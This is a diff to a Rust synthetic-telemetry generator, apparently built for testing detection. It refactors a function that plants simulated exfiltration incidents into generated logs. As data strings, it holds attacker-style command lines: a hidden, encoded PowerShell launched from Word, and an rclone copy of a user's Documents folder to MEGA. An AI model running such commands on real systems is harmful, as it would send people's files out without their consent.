@@ -816,167 +816,109 @@ fn simulate_server_day(g: &mut Gen, h: &mut Host, day0: i64, _user: &str) {
     }
 }
 
+/// Starts a process of `h` at `at` (a pid allocated for it) and returns its pid.
+#[allow(clippy::too_many_arguments)]
+fn launch(
+    g: &mut Gen,
+    h: &mut Host,
+    at: i64,
+    parent: (u32, &str),
+    user: &str,
+    name: &str,
+    exe: &str,
+    cmdline: &str,
+) -> u32 {
+    let pid = alloc_pid(h);
+    g.start(at, pid, name, exe, parent.0, parent.1, user, cmdline);
+    pid
+}
+
+const WINWORD: &str = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";
+const EXCEL: &str = r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE";
+const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
+
 fn inject(g: &mut Gen, h: &mut Host, kind: IncidentKind, at: i64, n: usize) -> Incident {
     let user = user_of(&h.name);
-    let explorer = 900;
-    let (app, pid, end, bytes, service) = match kind {
+    let explorer = (900, "explorer.exe");
+    // Each kind: the uploading process, then `mins` minutes of `per` bytes a
+    // minute to its destination; the process ends two minutes after the
+    // upload starts plus its length (Word in the macro case stays open).
+    let (app, pid, mins, per, service) = match kind {
         IncidentKind::OfficeMacroCloud => {
-            let pid = alloc_pid(h);
-            g.start(
-                at,
-                pid,
-                "WINWORD.EXE",
-                r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
-                explorer,
-                "explorer.exe",
-                &user,
-                r#"WINWORD.EXE /n "C:\Users\u\Downloads\invoice.docm""#,
-            );
+            let cmd = r#"WINWORD.EXE /n "C:\Users\u\Downloads\invoice.docm""#;
+            let pid = launch(g, h, at, explorer, &user, "WINWORD.EXE", WINWORD, cmd);
             let mins = g.rng.gen_range(4..10);
             let per = g.rng.gen_range(15..40) * MIB;
             g.flow(at + MIN_US, mins, pid, DROPBOX, per, per / 300);
-            (
-                "winword.exe",
-                pid,
-                at + (mins + 2) * MIN_US,
-                per * mins as u64,
-                "dropbox",
-            )
+            ("winword.exe", pid, mins, per, "dropbox")
         }
         IncidentKind::OfficeScriptHost => {
-            let word = alloc_pid(h);
-            g.start(
+            let word = launch(
+                g,
+                h,
                 at,
-                word,
-                "WINWORD.EXE",
-                r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
                 explorer,
-                "explorer.exe",
                 &user,
+                "WINWORD.EXE",
+                WINWORD,
                 "WINWORD.EXE",
             );
-            let pid = alloc_pid(h);
-            g.start(
+            let cmd = "powershell.exe -nop -w hidden -enc SQBFAFgA...";
+            let parent = (word, "WINWORD.EXE");
+            let pid = launch(
+                g,
+                h,
                 at + 30_000_000,
-                pid,
-                "powershell.exe",
-                r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
-                word,
-                "WINWORD.EXE",
+                parent,
                 &user,
-                "powershell.exe -nop -w hidden -enc SQBFAFgA...",
+                "powershell.exe",
+                POWERSHELL,
+                cmd,
             );
             let mins = g.rng.gen_range(3..8);
             let per = g.rng.gen_range(10..30) * MIB;
             g.flow(at + MIN_US, mins, pid, GDRIVE, per, per / 200);
-            g.end(at + (mins + 2) * MIN_US, pid);
-            (
-                "powershell.exe",
-                pid,
-                at + (mins + 2) * MIN_US,
-                per * mins as u64,
-                "google_drive",
-            )
+            ("powershell.exe", pid, mins, per, "google_drive")
         }
         IncidentKind::UnknownTool => {
-            let pid = alloc_pid(h);
-            g.start(
-                at,
-                pid,
-                "rclone.exe",
-                r"C:\Users\Public\rclone.exe",
-                explorer,
-                "explorer.exe",
-                &user,
-                "rclone.exe copy C:\\Users\\u\\Documents mega:backup",
-            );
+            let cmd = "rclone.exe copy C:\\Users\\u\\Documents mega:backup";
+            let exe = r"C:\Users\Public\rclone.exe";
+            let pid = launch(g, h, at, explorer, &user, "rclone.exe", exe, cmd);
             let mins = g.rng.gen_range(5..15);
             let per = g.rng.gen_range(40..120) * MIB;
             g.flow(at + MIN_US, mins, pid, MEGA, per, per / 500);
-            g.end(at + (mins + 2) * MIN_US, pid);
-            (
-                "rclone.exe",
-                pid,
-                at + (mins + 2) * MIN_US,
-                per * mins as u64,
-                "mega",
-            )
+            ("rclone.exe", pid, mins, per, "mega")
         }
         IncidentKind::LowAndSlow => {
-            let pid = alloc_pid(h);
-            g.start(
-                at,
-                pid,
-                "EXCEL.EXE",
-                r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
-                explorer,
-                "explorer.exe",
-                &user,
-                "EXCEL.EXE /e report.xlsm",
-            );
+            let cmd = "EXCEL.EXE /e report.xlsm";
+            let pid = launch(g, h, at, explorer, &user, "EXCEL.EXE", EXCEL, cmd);
             let mins = 8 * 60;
             let per = g.rng.gen_range(180..300) * KIB;
             g.flow(at + MIN_US, mins, pid, GDRIVE, per, per / 40);
-            g.end(at + (mins + 2) * MIN_US, pid);
-            (
-                "excel.exe",
-                pid,
-                at + (mins + 2) * MIN_US,
-                per * mins as u64,
-                "google_drive",
-            )
+            ("excel.exe", pid, mins, per, "google_drive")
         }
         IncidentKind::NoSni => {
-            let pid = alloc_pid(h);
-            g.start(
-                at,
-                pid,
-                "powershell.exe",
-                r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
-                explorer,
-                "explorer.exe",
-                &user,
-                "powershell.exe -File C:\\Users\\Public\\sync.ps1",
-            );
+            let cmd = "powershell.exe -File C:\\Users\\Public\\sync.ps1";
+            let pid = launch(g, h, at, explorer, &user, "powershell.exe", POWERSHELL, cmd);
             let mins = g.rng.gen_range(3..8);
             let per = g.rng.gen_range(20..60) * MIB;
             g.flow(at + MIN_US, mins, pid, BARE_IP, per, per / 400);
-            g.end(at + (mins + 2) * MIN_US, pid);
-            (
-                "powershell.exe",
-                pid,
-                at + (mins + 2) * MIN_US,
-                per * mins as u64,
-                "other",
-            )
+            ("powershell.exe", pid, mins, per, "other")
         }
         IncidentKind::DnsOnly => {
-            let pid = alloc_pid(h);
-            g.start(
-                at,
-                pid,
-                "EXCEL.EXE",
-                r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
-                explorer,
-                "explorer.exe",
-                &user,
-                "EXCEL.EXE",
-            );
+            let pid = launch(g, h, at, explorer, &user, "EXCEL.EXE", EXCEL, "EXCEL.EXE");
             let ip = g.ip(DROPBOX);
             g.dns(at + 10_000_000, "content.dropboxapi.com", ip);
             let mins = g.rng.gen_range(3..8);
             let per = g.rng.gen_range(15..40) * MIB;
             g.flow_ip(at + MIN_US, mins, pid, ip, None, per, per / 300);
-            g.end(at + (mins + 2) * MIN_US, pid);
-            (
-                "excel.exe",
-                pid,
-                at + (mins + 2) * MIN_US,
-                per * mins as u64,
-                "dropbox",
-            )
+            ("excel.exe", pid, mins, per, "dropbox")
         }
     };
+    let end = at + (mins + 2) * MIN_US;
+    if kind != IncidentKind::OfficeMacroCloud {
+        g.end(end, pid);
+    }
     Incident {
         id: format!("inc-{:02}", n + 1),
         kind,
@@ -985,7 +927,7 @@ fn inject(g: &mut Gen, h: &mut Host, kind: IncidentKind, at: i64, n: usize) -> I
         pid,
         start: Timestamp(at).to_rfc3339(),
         end: Timestamp(end).to_rfc3339(),
-        bytes_out: bytes,
+        bytes_out: per * mins as u64,
         service: service.to_string(),
     }
 }
